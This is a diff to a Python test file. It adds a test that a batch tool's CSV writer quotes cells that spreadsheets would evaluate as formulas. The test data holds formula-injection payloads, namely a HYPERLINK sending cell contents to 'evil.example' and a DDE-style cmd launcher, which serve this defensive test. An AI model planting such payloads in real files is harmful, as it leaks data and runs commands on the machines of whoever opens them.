@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import gzip
+import io
 import json
 from pathlib import Path
 from types import SimpleNamespace
@@ -253,3 +254,16 @@ def test_an_unwritable_place_or_a_full_disk_is_one_error_line(fake: Any, tmp_pat
     code, _, err = _main(monkeypatch, capsys, "recommend-batch", str(tmp_path / "l.jsonl"))
     assert code == 2 and "cannot write" in err and "No space left on device" in err and "Traceback" not in err
     assert list(tmp_path.iterdir()) == []  # nor a temporary file
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted() -> None:
+    """An id planted through an event (`=HYPERLINK(...)`) must not run when the CSV is opened in a spreadsheet;
+    numbers and plain ids are written as they are."""
+    f = io.StringIO()
+    batch._Lines(f, "csv").write('=HYPERLINK("https://evil.example?c="&A2,"voucher")', True,
+                                 [{"item_id": "@SUM(A1)", "score": 1.0}, {"item_id": "-12", "score": 0.5},
+                                  {"item_id": "+cmd|' /C calc'!A0", "score": 0.25},
+                                  {"item_id": "item-7", "score": 0.1}], {})
+    rows = list(csv.reader(io.StringIO(f.getvalue())))[1:]
+    assert {r[0] for r in rows} == {'\'=HYPERLINK("https://evil.example?c="&A2,"voucher")'}
+    assert [r[2] for r in rows] == ["'@SUM(A1)", "-12", "'+cmd|' /C calc'!A0", "item-7"]
